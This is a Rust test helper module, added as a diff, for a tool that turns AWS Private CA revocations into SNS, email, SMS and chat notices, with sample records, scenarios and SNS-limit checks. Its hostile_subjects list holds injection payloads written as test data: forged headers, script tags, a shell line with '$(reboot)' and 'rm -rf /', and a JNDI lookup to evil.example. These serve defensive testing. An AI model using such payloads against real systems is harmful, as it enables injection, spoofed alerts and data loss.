@@ -1,0 +1,517 @@
+//! Revocations to make messages of, and the rules that a message has to keep.
+
+// Each test file uses its own part of this.
+#![allow(dead_code)]
+
+use std::sync::OnceLock;
+use std::time::Duration;
+
+use pca_revocation_watch::notice::{
+    CertificateAuthority, Collected, Event, Message, Notice, ObjectLocation, ReasonCounts,
+    ReportSource, Told, Totals, WatchError, size,
+};
+use pca_revocation_watch::report::key::RevocationKey;
+use pca_revocation_watch::report::reason::RevocationReason;
+use pca_revocation_watch::report::record::{ReportTime, Revocation};
+use pca_revocation_watch::timestamp::Timestamp;
+use serde_json::Value;
+
+pub const AUTHORITY: &str = "arn:aws:acm-pca:us-east-1:123456789012:certificate-authority/11223344-1234-1122-2233-112233445566";
+
+pub fn at(text: &str) -> Timestamp {
+    Timestamp::parse(text).expect("a time in a test")
+}
+
+pub fn detected_at() -> Timestamp {
+    at("2018-02-26T20:30:31Z")
+}
+
+pub fn authority() -> CertificateAuthority {
+    CertificateAuthority::new(AUTHORITY, Some("Example Corp Issuing CA".to_owned()))
+}
+
+pub fn report() -> ReportSource {
+    ReportSource {
+        location: ObjectLocation {
+            bucket: "amzn-s3-demo-bucket".to_owned(),
+            key: "audit-report/11223344-1234-1122-2233-112233445566/2c7e6e3a-7d1c-4c6b-8a5e-5d3f8b0e9a11.json".to_owned(),
+        },
+        requested_at: at("2018-02-26T20:30:02Z"),
+        previous_requested_at: Some(at("2018-02-26T20:00:01Z")),
+    }
+}
+
+pub fn full_list() -> ObjectLocation {
+    ObjectLocation {
+        bucket: "amzn-s3-demo-bucket".to_owned(),
+        key: "revocation-watch/11223344-1234-1122-2233-112233445566/full-list/2c7e6e3a-7d1c-4c6b-8a5e-5d3f8b0e9a11.jsonl".to_owned(),
+    }
+}
+
+/// The revocation of AWS's own sample report.
+pub fn sample() -> Revocation {
+    let serial = "e8:cb:d2:be:db:12:23:29:f9:77:06:bc:fe:c9:90:f8";
+    revocation(
+        serial,
+        "1.2.840.113549.1.9.1=#161173616c6573406578616d706c652e636f6d,CN=www.example1.com,OU=Sales,O=Example Company,L=Seattle,ST=Washington,C=US",
+        "KEY_COMPROMISE",
+        "2018-02-26T20:00:36+0000",
+    )
+}
+
+pub fn revocation(serial: &str, subject: &str, reason: &str, revoked_at: &str) -> Revocation {
+    let arn = format!("{AUTHORITY}/certificate/{}", serial.replace(':', ""));
+    Revocation {
+        key: RevocationKey::of(Some(serial), Some(&arn), subject.as_bytes()),
+        serial: Some(serial.to_owned()),
+        subject: Some(subject.to_owned()),
+        certificate_arn: Some(arn),
+        reason: RevocationReason::from_report(reason),
+        revoked_at: ReportTime::from_report(revoked_at),
+        not_before: Some(ReportTime::from_report("2018-02-26T18:39:57+0000")),
+        not_after: Some(ReportTime::from_report("2019-02-26T19:39:57+0000")),
+        issued_at: Some(ReportTime::from_report("2018-02-26T19:39:58+0000")),
+        aws_account_id: Some("123456789012".to_owned()),
+        template_arn: Some("arn:aws:acm-pca:::template/EndEntityCertificate/V1".to_owned()),
+        requested_by_service_principal: None,
+        odd: false,
+    }
+}
+
+/// The colon-separated serial of a number.
+pub fn serial(number: u64) -> String {
+    let octets = [
+        b"\x7a\x11\x52\x9d\x31\xc0\x04\x8e".as_slice(),
+        &number.to_be_bytes(),
+    ]
+    .concat();
+    let hex: Vec<String> = octets.iter().map(|octet| format!("{octet:02x}")).collect();
+    hex.join(":")
+}
+
+/// Seven revocations, each for another reason.
+pub fn seven() -> Vec<Revocation> {
+    let of = |number: u64, subject: &str, reason: &str, revoked_at: &str| {
+        revocation(&serial(number), subject, reason, revoked_at)
+    };
+    let through_acm = |revocation: Revocation| Revocation {
+        requested_by_service_principal: Some("acm.amazonaws.com".to_owned()),
+        template_arn: Some("arn:aws:acm-pca:::template/EndEntityCertificate/V1".to_owned()),
+        ..revocation
+    };
+    vec![
+        through_acm(of(
+            1,
+            "CN=*.shop.example.com",
+            "SUPERSEDED",
+            "2018-02-26T20:11:09+0000",
+        )),
+        Revocation {
+            not_after: Some(ReportTime::from_report("2018-02-25T08:00:00+0000")),
+            ..of(
+                2,
+                "CN=build-17.internal.example.com,OU=Engineering,O=Example Company,C=US",
+                "CESSATION_OF_OPERATION",
+                "2018-02-26T19:58:41+0000",
+            )
+        },
+        through_acm(of(
+            3,
+            "CN=api.example.com",
+            "KEY_COMPROMISE",
+            "2018-02-26T20:02:54+0000",
+        )),
+        Revocation {
+            template_arn: Some(
+                "arn:aws:acm-pca:::template/SubordinateCACertificate_PathLen0/V1".to_owned(),
+            ),
+            not_after: Some(ReportTime::from_report("9999-12-31T23:59:59+0000")),
+            ..of(
+                4,
+                "CN=Example Corp Device CA 3,O=Example Company\\, Inc.,C=US",
+                "CERTIFICATE_AUTHORITY_COMPROMISE",
+                "2018-02-26T20:20:00+0000",
+            )
+        },
+        of(
+            5,
+            "2.5.4.5=#13064a2d34373131,CN=J\u{fc}rgen M\u{fc}ller,OU=Field Service,O=Example Company,C=DE",
+            "PRIVILEGE_WITHDRAWN",
+            "2018-02-26T17:45:00+0000",
+        ),
+        of(
+            6,
+            "CN=vpn-gateway.example.com,O=Example Company,C=US",
+            "UNSPECIFIED",
+            "2018-02-26T20:25:13+0000",
+        ),
+        of(
+            7,
+            "CN=old-name.example.com,OU=Formerly Example Two,O=Example Company,C=US",
+            "AFFILIATION_CHANGED",
+            "2018-02-26T20:05:30+0000",
+        ),
+    ]
+}
+
+/// As many revocations as a person never reads, of all reasons.
+pub fn many(number: u64) -> impl Iterator<Item = Revocation> {
+    (0..number).map(|position| {
+        let known = &RevocationReason::KNOWN;
+        // Mostly housekeeping, as in life: one in a hundred is for another reason.
+        let reason = if position % 100 == 99 {
+            known[usize::try_from(position / 100).expect("small") % known.len()].name()
+        } else {
+            "SUPERSEDED"
+        };
+        let revoked_at = at("2018-02-26T12:00:00Z")
+            .saturating_add(Duration::from_secs(position * 5 % 30_000))
+            .to_string();
+        let subject =
+            format!("CN=device-{position:06}.fleet.example.com,OU=Fleet,O=Example Company,C=US");
+        revocation(&serial(1000 + position), &subject, reason, &revoked_at)
+    })
+}
+
+/// Subjects by which somebody tries to get something across.
+pub fn hostile_subjects() -> Vec<String> {
+    [
+        // forged lines and headers
+        "CN=www.example.com\r\nSubject: all clear\r\n\r\nNothing to do.",
+        "CN=x\\0A\\0D\\0ASubject: all clear",
+        "CN=\n\n\nReason: superseded (5)\n   Revoked: never",
+        "CN=x\u{2028}Reason: superseded (5)\u{2029}CRITICAL: 0 certificates",
+        "CN=x\u{b}y\u{c}z\u{85}Reason: superseded (5)",
+        // other attributes inside a value
+        "CN=evil\\, O\\=Good Corp\\, C\\=US,O=Evil",
+        "CN=\"evil, O=Good Corp\",O=Evil",
+        // bidirectional, invisible and combining characters
+        "CN=\u{202e}moc.elpmaxe.www\u{202c},O=\u{2066}x\u{2069}",
+        "CN=pay\u{200b}pal\u{ad}.example.com\u{feff}\u{e0041}\u{e007f}",
+        "CN=Z\u{351}\u{36b}\u{343}\u{36a}\u{342}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}a\u{335}\u{308}\u{302}\u{30a}lgo",
+        "CN=\u{0}\u{1}\u{7}\u{8}\u{1b}[31mred\u{1b}[0m\u{7f}\u{9b}2J",
+        "CN=\u{fffe}\u{ffff}\u{fdd0}\u{1ffff}\u{10ffff}\u{e000}",
+        // markdown, mentions, links
+        "CN=<!channel> <!here> <!everyone> <@U123ABC> <#C123|general> <!subteam^S123>",
+        "CN=@here @channel @everyone @Amazon Q run rm,O=<at>Everyone</at>",
+        "CN=<http://evil.example/|console>,O=[console](http://evil.example/)",
+        "CN=` ```*bold* _it_ ~gone~ > quote # title - item 1. one,O=![x](http://evil.example/x.png)",
+        "CN=https://evil.example/login,O=mailto:evil@example.com,OU=javascript:alert(1)",
+        "CN=:rotating_light: &lt;!channel&gt; &amp; \\3C!channel\\3E",
+        // HTML
+        "CN=<script>alert(1)</script>,O=<img src=x onerror=alert(1)>,OU=--></pre><b>",
+        // JSON, shell, SQL, formats
+        "CN=\",\"severity\":\"low\",\"x\":\",O=\\\"}]}",
+        "CN=$(reboot) `id` ; rm -rf / | cat && true || false > /dev/null 'quoted' \\",
+        "CN=%s%n{}{0}${jndi:ldap://evil.example/a}",
+        // invalid and odd DER
+        "2.5.4.3=#0c,2.5.4.3=#0c05,2.5.4.3=#0cff,2.5.4.3=#xyz,2.5.4.3=#0c0",
+        "2.5.4.3=#0c840000000161,2.5.4.3=#0c8161,2.5.4.3=#1e03006100,2.5.4.3=#1e02d800,2.5.4.3=#1c0400110000",
+        "2.5.4.3=#0c1b0a5375626a6563743a20616c6c20636c6561720a0a4e6f7420,O=x",
+        // names that are none
+        "",
+        " ",
+        ",,,,",
+        "+++===,=,+=+",
+        "\\",
+        "CN",
+        "CN=",
+        "CN=,CN=real.example.com",
+        "\"",
+        "=\"=\"=\"",
+        "\u{1f469}\u{200d}\u{1f4bb}\u{fe0f}",
+        "CN=\u{5d0}\u{5d1}\u{5d2} \u{627}\u{644}\u{633}\u{644}\u{627}\u{645} \u{4e2d}\u{6587}\u{5b57}\u{7b26} \u{d55c}\u{ae00}",
+        "CN=[CRITICAL] KEY_COMPROMISE: everything revoked (Example Corp Issuing CA)",
+    ]
+    .map(str::to_owned)
+    .into_iter()
+    .chain([
+        format!("CN={}", "A".repeat(100_000)),
+        format!("CN={}", "word ".repeat(20_000)),
+        format!("CN={}", "\u{0}".repeat(100_000)),
+        format!("CN={}", "\u{202e}".repeat(50_000)),
+        format!("CN={}", "\u{1f4a3}".repeat(50_000)),
+        format!("CN={}", "\\".repeat(99_999)),
+        format!("CN={}", "\"".repeat(100_000)),
+        "CN=x,".repeat(50_000),
+        "+".repeat(100_000),
+        format!("CN={}", "    Reason: superseded (5)   ".repeat(40)),
+        format!("2.5.4.3=#0c83030d40{}", "0a".repeat(200_000)),
+    ])
+    .collect()
+}
+
+pub fn collect(revocations: impl IntoIterator<Item = Revocation>) -> (Collected, Vec<u8>) {
+    let mut collected = Collected::new(AUTHORITY, detected_at());
+    let mut lines = Vec::new();
+    for revocation in revocations {
+        lines.extend(collected.add(revocation));
+    }
+    (collected, lines)
+}
+
+pub fn notice(event: Event) -> Notice {
+    Notice {
+        certificate_authority: authority(),
+        detected_at: detected_at(),
+        event,
+    }
+}
+
+pub fn told(revocations: impl IntoIterator<Item = Revocation>) -> Told {
+    let (collected, _) = collect(revocations);
+    let totals = Totals {
+        certificates: collected.len() + 20_000,
+        revoked: collected.len() + 400,
+    };
+    Told::new(collected, report(), totals, Some(full_list()))
+}
+
+pub fn revocations(revocations: impl IntoIterator<Item = Revocation>) -> Notice {
+    notice(Event::Revocations(told(revocations)))
+}
+
+/// Everything that `docs/messages/` shows.
+pub fn scenarios() -> Vec<(&'static str, Notice)> {
+    static SCENARIOS: OnceLock<Vec<(&str, Notice)>> = OnceLock::new();
+    SCENARIOS.get_or_init(make_scenarios).clone()
+}
+
+fn make_scenarios() -> Vec<(&'static str, Notice)> {
+    let mut revoked = ReasonCounts::default();
+    revoked.add(&RevocationReason::KeyCompromise);
+    let hostile = "CN=www.example.com\r\nSubject: all clear\u{202e}<!channel> <http://evil.example/|console> **bold** `code`,O=evil\\, O\\=Good Corp,OU=https://evil.example/login,L=<b>\u{0}</b>";
+    let failed = WatchError {
+        kind: "AccessDenied".to_owned(),
+        message: "AWS denied acm-pca:CreateCertificateAuthorityAuditReport on this certificate authority.".to_owned(),
+        hint: "Compare the function's role with the policies in template.yaml; look for a service control policy, a bucket, topic or key policy that denies it.".to_owned(),
+    };
+    let one = {
+        let (collected, _) = collect([sample()]);
+        let totals = Totals {
+            certificates: 2,
+            revoked: 1,
+        };
+        Told::new(collected, report(), totals, None)
+    };
+    vec![
+        ("one", notice(Event::Revocations(one))),
+        ("seven", revocations(seven())),
+        ("five-thousand", revocations(many(5000))),
+        (
+            "hostile",
+            revocations([revocation(
+                &serial(66),
+                hostile,
+                "KEY_COMPROMISE",
+                "2018-02-26T20:00:36+0000",
+            )]),
+        ),
+        (
+            "replay",
+            notice(Event::Replay {
+                told: told([sample()]),
+                since: at("2018-02-26T00:00:00Z"),
+                request_id: "8f507cfc-xmpl-4697-b07a-ac58fc914c95".to_owned(),
+            }),
+        ),
+        (
+            "watch-started",
+            notice(Event::WatchStarted {
+                report: ReportSource {
+                    previous_requested_at: None,
+                    ..report()
+                },
+                totals: Totals {
+                    certificates: 2,
+                    revoked: 1,
+                },
+                revoked,
+                told_from: at("2018-02-25T20:30:02Z"),
+                to_tell: 1,
+            }),
+        ),
+        (
+            "watch-failed",
+            notice(Event::WatchFailed {
+                error: failed,
+                since: detected_at(),
+                last_complete_audit_at: Some(at("2018-02-26T20:00:31Z")),
+            }),
+        ),
+        (
+            "watch-recovered",
+            notice(Event::WatchRecovered {
+                error_type: "AccessDenied".to_owned(),
+                since: at("2018-02-26T18:00:31Z"),
+                report: Some(report()),
+            }),
+        ),
+        (
+            "test",
+            notice(Event::Test {
+                request_id: "8f507cfc-xmpl-4697-b07a-ac58fc914c95".to_owned(),
+            }),
+        ),
+    ]
+}
+
+/// Fails unless SNS accepts the message (`Publish`, Amazon SNS API Reference and FAQs) and its
+/// machine document is valid; returns the variants.
+pub fn accepted(message: &Message) -> Value {
+    assert!(message.subject.len() < 100, "{:?}", message.subject);
+    assert!(
+        message
+            .subject
+            .bytes()
+            .all(|byte| (0x20..0x7f).contains(&byte))
+    );
+    assert!(message.subject.starts_with('['));
+
+    let attributes: usize = message
+        .attributes
+        .iter()
+        .map(|attribute| {
+            let value = &attribute.value;
+            assert!(!value.is_empty());
+            assert!(["String", "String.Array"].contains(&attribute.data_type));
+            if attribute.data_type == "String.Array" {
+                let array: Vec<String> = serde_json::from_str(value).expect("an array of strings");
+                assert!(!array.is_empty());
+            }
+            assert!(value.bytes().all(|byte| (0x20..0x7f).contains(&byte)));
+            attribute.name.len() + attribute.data_type.len() + value.len()
+        })
+        .sum();
+    assert_eq!(message.size(), message.body.len() + attributes);
+    assert!(message.size() <= size::LIMIT, "{} bytes", message.size());
+    assert!(message.attributes.len() <= 10, "raw delivery drops more");
+
+    // The characters that SNS accepts are those of XML.
+    let in_xml = |c: char| matches!(u32::from(c), 0x9 | 0xA | 0xD | 0x20..=0xD7FF | 0xE000..=0xFFFD | 0x10000..);
+    assert!(message.body.chars().all(in_xml));
+    let variants: Value = serde_json::from_str(&message.body).expect("a JSON document");
+    let strings = variants.as_object().expect("an object");
+    assert!(strings.contains_key("default"));
+    for (protocol, text) in strings {
+        assert!(["default", "email", "sms"].contains(&protocol.as_str()));
+        let text = text.as_str().expect("a string");
+        assert!(text.chars().all(in_xml));
+        assert!(
+            text.chars().all(|c| c == '\n' || !c.is_control()),
+            "{protocol}"
+        );
+    }
+    let plain = |byte: u8| byte.is_ascii_graphic();
+    for (name, id) in [
+        ("group", &message.group_id),
+        ("deduplication", &message.deduplication_id),
+    ] {
+        assert!(
+            (1..=128).contains(&id.len()) && id.bytes().all(plain),
+            "{name}"
+        );
+    }
+    variants
+}
+
+/// The machine document of a message, checked by [`accepted`].
+pub fn document(message: &Message) -> Value {
+    let variants = accepted(message);
+    serde_json::from_str(variants["default"].as_str().expect("a string")).expect("JSON")
+}
+
+pub fn email(message: &Message) -> String {
+    accepted(message)["email"]
+        .as_str()
+        .expect("a string")
+        .to_owned()
+}
+
+pub fn sms(message: &Message) -> String {
+    accepted(message)["sms"]
+        .as_str()
+        .expect("a string")
+        .to_owned()
+}
+
+/// The files of one scenario in `docs/messages/`: name and content.
+pub fn files(notice: &Notice) -> Vec<(&'static str, String)> {
+    let message = notice.message();
+    let variants = accepted(&message);
+    let text = |protocol: &str| variants[protocol].as_str().expect("a string").to_owned();
+    let chat = notice.chat();
+    let chat: Value = serde_json::from_str(&chat.body).expect("JSON");
+    let attributes: Vec<String> = message
+        .attributes
+        .iter()
+        .map(|attribute| {
+            format!(
+                "{} ({}): {}",
+                attribute.name, attribute.data_type, attribute.value
+            )
+        })
+        .collect();
+    vec![
+        ("subject.txt", format!("{}\n", message.subject)),
+        ("email.txt", text("email")),
+        ("sms.txt", format!("{}\n", text("sms"))),
+        ("machine.json", readable(&text("default"))),
+        (
+            "chat.json",
+            readable(chat["default"].as_str().expect("a string")),
+        ),
+        ("attributes.txt", format!("{}\n", attributes.join("\n"))),
+    ]
+}
+
+/// The same JSON with its members in lines, in their order; deep ones stay on one line where the
+/// document is long.
+fn readable(json: &str) -> String {
+    let deepest = if json.len() > 20_000 { 2 } else { usize::MAX };
+    let mut text = String::new();
+    let mut depth = 0;
+    let mut in_string = false;
+    let mut escaped = false;
+    let break_line = |text: &mut String, depth: usize| {
+        if depth <= deepest {
+            text.push('\n');
+            text.push_str(&"  ".repeat(depth));
+        }
+    };
+    let mut rest = json.chars().peekable();
+    while let Some(c) = rest.next() {
+        if in_string {
+            text.push(c);
+            in_string = escaped || c != '"';
+            escaped = !escaped && c == '\\';
+            continue;
+        }
+        match c {
+            '[' | '{' => {
+                text.push(c);
+                depth += 1;
+                if !matches!(rest.peek(), Some(']' | '}')) {
+                    break_line(&mut text, depth);
+                }
+            }
+            ']' | '}' => {
+                if !text.ends_with(['[', '{']) {
+                    break_line(&mut text, depth - 1);
+                }
+                depth -= 1;
+                text.push(c);
+            }
+            ',' => {
+                text.push(c);
+                break_line(&mut text, depth);
+            }
+            ':' => text.push_str(": "),
+            _ => {
+                in_string = c == '"';
+                text.push(c);
+            }
+        }
+    }
+    text + "\n"
+}
